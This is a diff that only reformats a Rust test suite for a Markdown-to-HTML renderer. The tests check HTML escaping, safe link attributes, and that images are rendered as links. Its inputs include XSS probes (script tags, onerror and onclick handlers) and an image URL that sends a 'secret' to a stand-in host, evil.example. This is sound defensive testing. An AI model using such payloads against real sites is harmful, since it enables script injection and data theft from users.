@@ -134,11 +134,16 @@ mod tests {
 
     #[test]
     fn raw_html_is_text() {
-        let html = to_html("Hi <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n<div onclick=\"x()\">block</div>");
+        let html = to_html(
+            "Hi <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n<div onclick=\"x()\">block</div>",
+        );
         assert!(!html.contains("<script"), "{html}");
         assert!(!html.contains("<img"), "{html}");
         assert!(!html.contains("<div"), "{html}");
-        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
+        assert!(
+            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+            "{html}"
+        );
     }
 
     #[test]
@@ -161,7 +166,8 @@ mod tests {
 
     #[test]
     fn safe_links_open_in_a_new_tab_without_opener() {
-        let html = to_html("[docs](https://example.com/a?b=\"c\") and [here](/p/1) and <mailto:a@b.c>");
+        let html =
+            to_html("[docs](https://example.com/a?b=\"c\") and [here](/p/1) and <mailto:a@b.c>");
         assert!(
             html.contains("<a href=\"https://example.com/a?b=%22c%22\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">docs</a>"),
             "{html}"
@@ -174,14 +180,22 @@ mod tests {
     fn images_are_links_not_loads() {
         let html = to_html("![chart](https://evil.example/leak?d=secret)");
         assert!(!html.contains("<img"), "{html}");
-        assert!(html.contains("href=\"https://evil.example/leak?d=secret\""), "{html}");
+        assert!(
+            html.contains("href=\"https://evil.example/leak?d=secret\""),
+            "{html}"
+        );
         assert!(html.contains("Image: chart"), "{html}");
     }
 
     #[test]
     fn code_tables_and_lists() {
-        let html = to_html("```rust\nfn main() { println!(\"<b>\"); }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n");
-        assert!(html.contains("<pre><code class=\"language-rust\">"), "{html}");
+        let html = to_html(
+            "```rust\nfn main() { println!(\"<b>\"); }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n",
+        );
+        assert!(
+            html.contains("<pre><code class=\"language-rust\">"),
+            "{html}"
+        );
         assert!(html.contains("&lt;b&gt;"), "{html}");
         assert!(html.contains("<table>"), "{html}");
         assert!(html.contains("<td>2</td>"), "{html}");
